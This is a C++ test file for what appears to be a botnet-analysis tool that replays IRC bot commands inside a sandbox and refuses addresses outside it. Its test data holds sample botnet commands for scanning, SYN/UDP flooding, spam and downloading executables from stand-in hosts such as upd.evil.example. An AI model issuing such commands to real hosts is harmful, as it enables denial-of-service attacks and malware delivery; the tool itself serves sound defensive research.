#include <doctest/doctest.h>

#include <unistd.h>
#include <filesystem>
#include <fstream>
#include <string>

#include "analysis/pcap_source.h"
#include "fakenet/operator_script.h"
#include "support/bot_traffic.h"
#include "support/temp_dir.h"

namespace botscope::fakenet::test_operator_script {

namespace {

namespace fs = std::filesystem;
using Kind = OperatorStep::Kind;

util::Result<OperatorScript> parse(std::string_view text) {
    return parse_operator_script(text, "t.txt", Sandbox{});
}

/// The error message of a script that must be refused.
std::string error_of(std::string_view text) {
    auto r = parse(text);
    REQUIRE_MESSAGE(!r, text);
    return r.error().message;
}

std::string code_of(std::string_view text) {
    auto r = parse(text);
    REQUIRE_MESSAGE(!r, text);
    return r.error().code;
}

using botscope::testing::TempDir;

}  // namespace

TEST_CASE("operator script: every directive, comments, blank lines and CR LF") {
    auto r = parse(
        "# a comment\r\n"
        "\n"
        "operator m4ster\n"
        "topic .advscan lsass_445 50 3 0 $SUBNET -s\n"
        "   # an indented comment\n"
        "say .login pw\n"
        "msg .ddos.ping $TARGET 3\n"
        "notice \x02hello\x02 $NICK\n"
        "wait 1.5\n"
        "expect [MAIN]: password accepted 7.25\n"
        "expect [SCAN]\n"
        "say\tcosts $$5\n");
    REQUIRE_MESSAGE(r, r.error().text());
    const OperatorScript& s = r.value();
    CHECK(s.name == "t");
    CHECK(s.nick == "m4ster");
    REQUIRE(s.steps.size() == 8);
    CHECK(s.steps[0].kind == Kind::kTopic);
    CHECK(s.steps[0].text == ".advscan lsass_445 50 3 0 $SUBNET -s");
    CHECK(s.steps[0].line == 4);
    CHECK(s.steps[1].kind == Kind::kSay);
    CHECK(s.steps[1].line == 6);
    CHECK(s.steps[2].kind == Kind::kMsg);
    CHECK(s.steps[3].kind == Kind::kNotice);
    CHECK(s.steps[3].text == "\x02hello\x02 $NICK");
    CHECK(s.steps[4].kind == Kind::kWait);
    CHECK(s.steps[4].millis == 1500);
    CHECK(s.steps[5].kind == Kind::kExpect);
    CHECK(s.steps[5].text == "[MAIN]: password accepted");
    CHECK(s.steps[5].millis == 7250);
    CHECK(s.steps[6].text == "[SCAN]");
    CHECK(s.steps[6].millis == kDefaultExpectMillis);
    CHECK(s.steps[7].text == "costs $$5");
    CHECK(s.total_millis() == 1500 + 7250 + 10000);
    CHECK(std::string(step_kind_name(Kind::kNotice)) == "notice");
}

TEST_CASE("operator script: the default nick, and a name without .txt") {
    auto r = parse_operator_script("say hi\n", "mine", Sandbox{});
    REQUIRE(r);
    CHECK(r->nick == "b0ss");
    CHECK(r->name == "mine");
}

TEST_CASE("operator script: variables expand to the sandbox and the bot") {
    Sandbox sb;
    OperatorVars v{"[DEU]|x", "#b0tz", 0x0A42000Au};
    CHECK(expand_operator_text("$TARGET $SINKHOLE $SUBNET $NETWORK $GUEST $NICK $CHANNEL $$ $$X",
                               sb, v) ==
          "10.66.0.200 10.66.0.1 10.66.0.x 10.66.0.0/24 10.66.0.10 [DEU]|x #b0tz $ $X");
    CHECK(expand_operator_text("$TARGET:80/$NICK.", sb, v) == "10.66.0.200:80/[DEU]|x.");
    CHECK(expand_operator_text("$NOPE $", sb, v) == "$NOPE $");  // left as written
    CHECK(expand_operator_text("${TARGET}_x ${NICK}9", sb, v) == "10.66.0.200_x [DEU]|x9");
    Sandbox wide;
    wide.subnet = *Subnet::parse("10.66.0.0/16");
    CHECK(expand_operator_text("$SUBNET", wide, v) == "10.66.x.x");
}

TEST_CASE("operator script: every syntax error names the file and the line") {
    struct Case {
        const char* text;
        const char* message;
    };
    const Case cases[] = {
        {"say hi\nshout hi\n", "t.txt:2: unknown directive 'shout'"},
        {"say hi\noperator boss\n", "t.txt:2: 'operator' must come before the first step"},
        {"operator a\noperator b\nsay hi\n", "t.txt:2: a second 'operator' line"},
        {"operator 9lives\nsay hi\n", "t.txt:1: '9lives' is not a valid IRC nick"},
        {"operator has space\nsay hi\n", "t.txt:1: 'has space' is not a valid IRC nick"},
        {"operator\nsay hi\n", "t.txt:1: '' is not a valid IRC nick"},
        {"say\n", "t.txt:1: say needs a text"},
        {"\n\ntopic   \n", "t.txt:3: topic needs a text"},
        {"wait 0\n", "t.txt:1: wait needs seconds"},
        {"wait 600.001\n", "t.txt:1: wait needs seconds"},
        {"wait -1\n", "t.txt:1: wait needs seconds"},
        {"wait 1.2345\n", "t.txt:1: wait needs seconds"},
        {"wait 1.\n", "t.txt:1: wait needs seconds"},
        {"wait five\n", "t.txt:1: wait needs seconds"},
        {"wait\n", "t.txt:1: wait needs seconds"},
        {"say a\nexpect [MAIN] 0\n", "t.txt:2: an expect timeout is more than 0"},
        {"say a\nexpect [MAIN] 601\n", "t.txt:2: an expect timeout is more than 0"},
        {"expect\n", "t.txt:1: expect needs a text"},
        {"say $TARGETS\n", "t.txt:1: unknown variable $TARGETS"},
        {"say $target\n", "t.txt:1: unknown variable $target"},
        {"say costs $5\n", "t.txt:1: a lone '$'"},
        {"say trailing $\n", "t.txt:1: a lone '$'"},
        {"say ${TARGET\n", "t.txt:1: a lone '$'"},
        {"say ${}x\n", "t.txt:1: a lone '$'"},
        {"say ${TARGETS}\n", "t.txt:1: unknown variable $TARGETS"},
        {"say a\x01VERSION\x01\n", "t.txt:1: control character 0x01 at column 6"},
        {"say a\rb\n", "t.txt:1: control character 0x0D"},
        {"# only comments\n\n", "t.txt:2: the script has no steps"},
        {"", "t.txt:0: the script has no steps"},
    };
    for (const auto& c : cases) {
        std::string msg = error_of(c.text);
        CHECK_MESSAGE(msg.rfind(c.message, 0) == 0, c.text, " -> ", msg);
    }
    // A NUL inside a line (std::string_view keeps it).
    std::string nul("say a\0b\n", 8);
    CHECK(error_of(nul) == "t.txt:1: control character 0x00 at column 6");
    CHECK(code_of("say $X\n") == "operator_variable");
    CHECK(parse("say a\nexpect 5\n"));  // a text of "5" with the default timeout
    CHECK(code_of("bogus\n") == "operator_syntax");
}

TEST_CASE("operator script: foreign addresses are refused in every form, with the line") {
    CHECK(error_of("say hi\nsay .ddos.syn 192.0.2.1 80 5\n") ==
          "t.txt:2: 192.0.2.1 is outside the sandbox 10.66.0.0/24; use $TARGET");
    CHECK(code_of("say .ddos.syn 192.0.2.1 80 5\n") == "operator_foreign_address");
    struct Case {
        const char* text;
        const char* found;
        const char* use;
    };
    const Case cases[] = {
        {"topic .advscan dcom135 50 3 0 10.66.x.x -s", "10.66.x.x", "$SUBNET"},
        {"say .scan 10.*.*.*", "10.*.*.*", "$SUBNET"},
        {"say .advscan dcom135 50 3 0 192.168.0.0/16", "192.168.0.0/16", "$SUBNET"},
        {"msg .download http://198.51.100.7/x.exe c:\\x.exe 1", "198.51.100.7", "$TARGET"},
        {"notice .update tftp://203.0.113.9/bot.exe", "203.0.113.9", "$TARGET"},
        {"say .syn 0xc0.0x00.0x02.0x01 80 5", "0xc0.0x00.0x02.0x01", "$TARGET"},
        {"say .syn 0xc0000201 80 5", "0xc0000201", "$TARGET"},
        {"say .syn 010.0.0.1 80 5", "010.0.0.1", "$TARGET"},    // octal: 8.0.0.1
        {"say .syn 1$TARGET 80 5", "110.66.0.200", "$TARGET"},  // found only once expanded
        {"say .syn 10.66.0.200.$SUBNET", nullptr, nullptr},     // not an address at all
        {"expect reply from 192.0.2.44", "192.0.2.44", "$TARGET"},
        {"say end of sentence 203.0.113.9.", "203.0.113.9", "$TARGET"},
        {"topic $CHANNEL 8.8.8.8", "8.8.8.8", "$TARGET"},
    };
    for (const auto& c : cases) {
        std::string text = std::string(c.text) + "\n";
        if (!c.found) {
            CHECK_MESSAGE(parse(text), text);
            continue;
        }
        CHECK_MESSAGE(error_of(text) == std::string("t.txt:1: ") + c.found +
                                            " is outside the sandbox 10.66.0.0/24; use " + c.use,
                      text);
    }
    // Inside the sandbox: literal addresses, ranges and names are fine.
    CHECK(
        parse("say .ddos.syn 10.66.0.77 80 5\nsay .advscan x 1 1 0 10.66.0.x\n"
              "say .download http://update.example.com/a.exe\nsay .scan 10.66.0.128/25\n"));
    // A sandbox of its own: $TARGET of the default sandbox is foreign there.
    Sandbox other;
    other.subnet = *Subnet::parse("192.168.50.0/24");
    other.host = 0xC0A83201u;
    other.target = 0xC0A832C8u;
    CHECK(parse_operator_script("say .syn $TARGET 80 3\n", "o.txt", other));
    auto r = parse_operator_script("say .syn 10.66.0.200 80 3\n", "o.txt", other);
    REQUIRE(!r);
    CHECK(r.error().message ==
          "o.txt:1: 10.66.0.200 is outside the sandbox 192.168.50.0/24; use $TARGET");
}

TEST_CASE("operator script: limits on size, steps, waits and text length") {
    std::string big(kMaxScriptBytes + 1, '#');
    auto r = parse(big);
    REQUIRE(!r);
    CHECK(r.error().code == "operator_too_large");
    CHECK(r.error().message == "t.txt: 65537 bytes, over the limit of 65536");

    std::string steps;
    for (std::size_t i = 0; i < kMaxScriptSteps; ++i)
        steps += "say x\n";
    CHECK(parse(steps));
    CHECK(error_of(steps + "say x\n") == "t.txt:1001: more than 1000 steps");

    std::string waits;
    for (int i = 0; i < 6; ++i)
        waits += "wait 600\n";
    CHECK(parse(waits));
    CHECK(error_of(waits + "expect x 0.001\n") ==
          "t.txt:7: waits and expect timeouts add up to more than 3600 s");

    // 400 bytes of text are fine; $NICK and $CHANNEL count at their longest (30 and 50).
    CHECK(parse("say " + std::string(400, 'a') + "\n"));
    CHECK(error_of("say " + std::string(401, 'a') + "\n") ==
          "t.txt:1: the text can expand to 401 bytes, over the limit of 400");
    CHECK(parse("say " + std::string(370, 'a') + "$NICK\n"));
    CHECK(error_of("say " + std::string(351, 'a') + "$CHANNEL\n") ==
          "t.txt:1: the text can expand to 401 bytes, over the limit of 400");
    CHECK(is_acceptable_nick("[USA|XP|SP2]-48213"));
    CHECK(is_acceptable_nick("{DEU}|^-x"));
    CHECK_FALSE(is_acceptable_nick(std::string(31, 'a')));
    CHECK_FALSE(is_acceptable_nick("-x"));
}

TEST_CASE("operator script: loaded by name from a folder, or by path") {
    TempDir d{"bs-operator-test"};
    d.write("mine.txt", "operator op1\nsay hi $NICK\n");
    d.write("bad.txt", "say hi\nsay 192.0.2.1\n");
    Sandbox sb;
    auto r = load_operator_script("mine", d.path, sb);
    REQUIRE_MESSAGE(r, r.error().text());
    CHECK(r->name == "mine");
    CHECK(r->nick == "op1");
    auto p = load_operator_script((d.path / "mine.txt").string(), "/nonexistent", sb);
    REQUIRE(p);
    CHECK(p->steps.size() == 1);
    auto bad = load_operator_script("bad", d.path, sb);
    REQUIRE(!bad);
    CHECK(bad.error().message ==
          "bad.txt:2: 192.0.2.1 is outside the sandbox 10.66.0.0/24; use $TARGET");
    auto missing = load_operator_script("nope", d.path, sb);
    REQUIRE(!missing);
    CHECK(missing.error().code == "operator_not_found");
    CHECK(missing.error().message == "no operator script 'nope' in " + d.path.string());
    auto dir = load_operator_script(d.path.string(), d.path, sb);
    REQUIRE(!dir);
    CHECK(dir.error().code == "operator_unreadable");
    // ".." is no name: it is a path (to a folder), never a file outside `dir` by name.
    CHECK(load_operator_script("..", d.path, sb).error().code == "operator_unreadable");
    d.write("huge.txt", std::string(kMaxScriptBytes + 10, '#'));
    auto huge = load_operator_script("huge", d.path, sb);
    REQUIRE(!huge);
    CHECK(huge.error().code == "operator_too_large");
}

TEST_CASE("operator script: the bundled default loads and plays the era's dialects") {
    auto r = load_operator_script("default", fs::path(BOTSCOPE_SOURCE_DIR) / "signatures/operator",
                                  Sandbox{});
    REQUIRE_MESSAGE(r, r.error().text());
    const auto& s = r.value();
    CHECK(s.nick == "b0ss");
    REQUIRE(!s.steps.empty());
    CHECK(s.steps[0].kind == Kind::kTopic);
    CHECK(s.steps[0].text.rfind(".advscan ", 0) == 0);
    auto has = [&s](Kind k, std::string_view prefix) {
        for (const auto& st : s.steps)
            if (st.kind == k && st.text.rfind(prefix, 0) == 0)
                return true;
        return false;
    };
    CHECK(has(Kind::kSay, ".login bs-letmein"));
    CHECK(has(Kind::kSay, "!login bs-letmein"));
    CHECK(has(Kind::kExpect, "[MAIN]"));
    CHECK(has(Kind::kSay, ".ddos.syn $TARGET "));
    CHECK(has(Kind::kSay, ".ddos.udp $TARGET 0 "));
    CHECK(has(Kind::kMsg, ".ddos.ping $TARGET "));
    CHECK(has(Kind::kSay, ".spam.start "));
    CHECK(has(Kind::kSay, ".download http://$SINKHOLE/"));
    CHECK(has(Kind::kSay, ".update tftp://$SINKHOLE/"));
    // Short enough for a task: at most about 40 s even when the bot never answers.
    CHECK(s.total_millis() <= 45'000);
}

// --- from a capture ---------------------------------------------------------------------------

namespace {

using namespace botscope::testing;

/// A honeypot's capture of a live botnet: a bot at 192.168.1.5 on a C&C at 198.51.100.20,
/// commands naming addresses outside the sandbox in every form.
Bytes honeypot_capture(bool second_bot = false) {
    CaptureWriter w;
    TcpConversation irc(w, ep("192.168.1.5", 1050), ep("198.51.100.20", 6667), kT0);
    irc.handshake();
    irc.send(Direction::kOrig, "NICK [USA|XP]-1234\r\nUSER x 0 0 :x\r\n");
    irc.send(Direction::kResp, ":irc.evil.example 001 [USA|XP]-1234 :Welcome\r\n");
    irc.send(Direction::kOrig, "JOIN #h0neys k3y\r\n");
    irc.send(
        Direction::kResp,
        ":[USA|XP]-1234!x@192.168.1.5 JOIN :#h0neys\r\n"
        ":irc.evil.example 332 [USA|XP]-1234 #h0neys :.advscan dcom135 100 5 0 192.168.x.x -s\r\n");
    irc.advance(3 * kSecond);
    irc.send(Direction::kResp, ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.login s3cret\r\n");
    irc.advance(2 * kSecond);
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.ddos.syn 203.0.113.9 80 60\r\n");
    irc.advance(120 * kSecond);  // capped at 60 s in the script
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG [USA|XP]-1234 :.ddos.udp 198.51.100.77 0 30\r\n");
    irc.advance(1500 * kMilli);
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.ddos.syn 203.0.113.9 443 60\r\n");
    irc.advance(kSecond);
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.download http://198.51.100.7/x.exe "
             "c:\\x.exe 1\r\n");
    irc.advance(kSecond);
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.download http://upd.evil.example/$x.exe "
             "c:\\y.exe 1\r\n");
    irc.advance(kSecond);
    irc.send(Direction::kResp,
             ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.ddos.ping 10.66.0.200 5\r\n");
    irc.advance(kSecond);
    irc.send(Direction::kResp, ":k1ng!k@203.0.113.66 TOPIC #h0neys :.scan 10.0.0.0/8 -s\r\n");
    irc.close();
    if (second_bot) {
        TcpConversation b(w, ep("192.168.1.6", 1051), ep("198.51.100.20", 6667),
                          kT0 + 200 * kSecond);
        b.handshake();
        b.send(Direction::kOrig, "NICK [DEU]-9\r\nUSER y 0 0 :y\r\n");
        b.send(Direction::kResp, ":irc.evil.example 001 [DEU]-9 :Welcome\r\n");
        b.send(Direction::kOrig, "JOIN #h0neys\r\n");
        b.send(Direction::kResp,
               ":k1ng!k@203.0.113.66 PRIVMSG #h0neys :.ddos.syn 192.0.2.200 80 60\r\n");
        b.close();
    }
    return w.bytes(FileFormat::kPcapLeUsec);
}

analysis::detect::BehaviorResult behaviour_of(const Bytes& capture) {
    auto out = analysis::analyze_capture_bytes(capture);
    REQUIRE(out.error == analysis::CaptureError::kNone);
    return out.behavior;
}

bool contains(const std::string& text, std::string_view what) {
    return text.find(what) != std::string::npos;
}

}  // namespace

TEST_CASE("from a capture: commands replayed in order with their timing, addresses rewritten") {
    auto b = behaviour_of(honeypot_capture());
    REQUIRE(b.commands.size() == 9);
    Sandbox sb;
    auto r = script_from_capture(b, {"honeypot.pcap", "abc123", std::nullopt}, sb);
    REQUIRE_MESSAGE(r, r.error().text());
    const std::string& t = r->text;
    INFO(t);
    CHECK(contains(t, "# Operator script from the capture honeypot.pcap\n# sha256 abc123\n"));
    CHECK(contains(t,
                   "# IRC server irc.evil.example (198.51.100.20:6667), channel #h0neys, nick "
                   "[USA|XP]-1234, bot 192.168.1.5\n"));
    CHECK(contains(t, "operator k1ng\n"));
    // The first foreign address is $TARGET; the next ones decoys, skipping 10.66.0.200 which
    // the commands name themselves; ranges $SUBNET; a URL's host address $SINKHOLE.
    CHECK(contains(t, "# 192.168.x.x -> $SUBNET\n"));
    CHECK(contains(t, "# 203.0.113.9 -> 10.66.0.201\n"));
    CHECK(contains(t, "# 198.51.100.77 -> 10.66.0.202\n"));
    CHECK(contains(t, "# 198.51.100.7 -> $SINKHOLE\n"));
    CHECK(contains(t, "# 10.0.0.0/8 -> $SUBNET\n"));
    CHECK(r->rewrites.size() == 5);
    CHECK(contains(t,
                   "topic .advscan dcom135 100 5 0 $SUBNET -s\n"
                   "wait 3.002\n"  // the capture's packets add a millisecond each
                   "say .login s3cret\n"
                   "wait 2.002\n"
                   "say .ddos.syn 10.66.0.201 80 60\n"
                   "# the capture waited 120.002 s here\n"
                   "wait 60\n"
                   "msg .ddos.udp 10.66.0.202 0 30\n"
                   "wait 1.502\n"
                   "say .ddos.syn 10.66.0.201 443 60\n"));
    CHECK(contains(t, "say .download http://$SINKHOLE/x.exe c:\\x.exe 1\n"));
    CHECK(contains(t, "say .download http://upd.evil.example/$$x.exe c:\\y.exe 1\n"));
    CHECK(contains(t, "say .ddos.ping 10.66.0.200 5\n"));
    CHECK(contains(t, "topic .scan $SUBNET -s\n"));
    CHECK(r->commands == 9);
    CHECK(r->skipped == 0);

    // It loads, and no step names a foreign address once expanded.
    const OperatorScript& s = r->script;
    CHECK(s.nick == "k1ng");
    CHECK(s.steps.front().kind == Kind::kTopic);
    for (const auto& st : s.steps)
        CHECK_MESSAGE(
            foreign_addresses(expand_operator_text(st.text, sb, {"n", "#c", 0x0A42000Au}), sb)
                .empty(),
            st.text);
}

TEST_CASE("from a capture: one bot at a time, chosen by --host") {
    auto b = behaviour_of(honeypot_capture(true));
    Sandbox sb;
    auto first = script_from_capture(b, {"h.pcap", "00", std::nullopt}, sb);
    REQUIRE(first);
    CHECK(contains(first->text, "# other bots in the capture (choose with --host): 192.168.1.6\n"));
    CHECK_FALSE(contains(first->text, "192.0.2.200"));
    analysis::IpAddress other;
    REQUIRE(analysis::IpAddress::parse("192.168.1.6", other));
    auto second = script_from_capture(b, {"h.pcap", "00", other}, sb);
    REQUIRE_MESSAGE(second, second.error().text());
    CHECK(second->commands == 1);
    CHECK(contains(second->text, "# 192.0.2.200 -> $TARGET\n"));
    CHECK(contains(second->text, "say .ddos.syn $TARGET 80 60\n"));
    analysis::IpAddress nobody;
    REQUIRE(analysis::IpAddress::parse("192.168.1.99", nobody));
    auto none = script_from_capture(b, {"h.pcap", "00", nobody}, sb);
    REQUIRE(!none);
    CHECK(none.error().code == "operator_no_host");
    CHECK(none.error().message == "h.pcap: 192.168.1.99 received no bot commands over IRC");
}

TEST_CASE("from a capture: the emulated sandbox session, and a capture without commands") {
    CaptureWriter w;
    emulate_bot_session(w, kT0);
    auto b = behaviour_of(w.bytes(FileFormat::kPcapLeUsec));
    auto r = script_from_capture(b, {"demo.pcap", "ff", std::nullopt}, Sandbox{});
    REQUIRE_MESSAGE(r, r.error().text());
    INFO(r->text);
    CHECK(r->rewrites.empty());  // every address is already the sandbox's
    CHECK(contains(r->text, std::string("topic ") + BotFacts::kTopicCommand + "\n"));
    CHECK(contains(r->text, std::string("say ") + BotFacts::kFloodCommand + "\n"));
    CHECK(contains(r->text, "operator b0ss\n"));

    CaptureWriter quiet;
    TcpConversation irc(quiet, ep("10.0.0.7", 1050), ep("10.0.0.22", 6667), kT0);
    irc.handshake();
    irc.send(Direction::kOrig, "NICK tim\r\nUSER tim 0 0 :tim\r\nJOIN #testing\r\n");
    irc.send(Direction::kResp, ":tim!tim@10.0.0.7 JOIN :#testing\r\n");
    irc.send(Direction::kOrig, "PRIVMSG #testing :hello there\r\n");
    irc.close();
    auto none = script_from_capture(behaviour_of(quiet.bytes(FileFormat::kPcapLeUsec)),
                                    {"quiet.pcap", "00", std::nullopt}, Sandbox{});
    REQUIRE(!none);
    CHECK(none.error().code == "operator_no_commands");
    CHECK(none.error().message == "quiet.pcap: no bot commands received over IRC");
}

TEST_CASE("from a capture: commands that cannot be replayed are named, limits hold") {
    using analysis::detect::BehaviorResult;
    using analysis::detect::BotCommand;
    BehaviorResult b;
    auto cmd = [](Timestamp ts, std::string text) {
        BotCommand c;
        c.ts = ts;
        c.via = "irc";
        c.where = "channel";
        c.flow = 1;
        c.from = "op!o@192.0.2.1";
        c.text = std::move(text);
        return c;
    };
    b.commands.push_back(cmd(kT0, ".ok 1"));
    b.commands.push_back(cmd(kT0 + kSecond, std::string(".bell \x07 ring")));
    b.commands.push_back(cmd(kT0 + 2 * kSecond, "." + std::string(500, 'a')));
    BotCommand http = cmd(kT0, ".http-only");
    http.via = "http";
    b.commands.push_back(http);
    auto r = script_from_capture(b, {"x.pcap", "00", std::nullopt}, Sandbox{});
    REQUIRE_MESSAGE(r, r.error().text());
    CHECK(r->commands == 1);
    CHECK(r->skipped == 2);
    CHECK(contains(r->text, "# left out (control characters): .bell ? ring\n"));
    CHECK(contains(r->text, "# left out (longer than 400 bytes): .aaaa"));
    CHECK_FALSE(contains(r->text, "http-only"));

    // An address the text goes on after with '_' (found by fuzz_operator_script): its
    // variable is braced, or the script would name $SINKHOLE_x and not load.
    BehaviorResult glued;
    glued.commands.push_back(cmd(kT0, ".get http://198.51.100.7__/x.exe 203.0.113.9_y"));
    auto g = script_from_capture(glued, {"g.pcap", "00", std::nullopt}, Sandbox{});
    REQUIRE_MESSAGE(g, g.error().text());
    INFO(g->text);
    CHECK(contains(g->text, "say .get http://${SINKHOLE}__/x.exe ${TARGET}_y\n"));

    // 700 commands a minute apart: the script stops at 3600 s of waits, and says so.
    BehaviorResult many;
    for (int i = 0; i < 700; ++i)
        many.commands.push_back(cmd(kT0 + i * 60 * kSecond, ".cmd " + std::to_string(i)));
    auto m = script_from_capture(many, {"m.pcap", "00", std::nullopt}, Sandbox{});
    REQUIRE_MESSAGE(m, m.error().text());
    CHECK(m->script.total_millis() <= kMaxScriptMillis);
    CHECK(m->commands == 61);
    CHECK(contains(m->text, "# the script stops here: 639 more commands would pass its limits"));

    // More distinct foreign addresses than decoys: they share, and the header says so.
    BehaviorResult lots;
    for (int i = 0; i < 300; ++i)
        lots.commands.push_back(cmd(kT0, ".syn 192.0." + std::to_string(2 + i / 250) + "." +
                                             std::to_string(1 + i % 250) + " 80 1"));
    auto l = script_from_capture(lots, {"l.pcap", "00", std::nullopt}, Sandbox{});
    REQUIRE_MESSAGE(l, l.error().text());
    CHECK(contains(l->text, "# (more distinct addresses than decoys: some share one)\n"));
    CHECK(l->commands == 300);
}

}  // namespace botscope::fakenet::test_operator_script
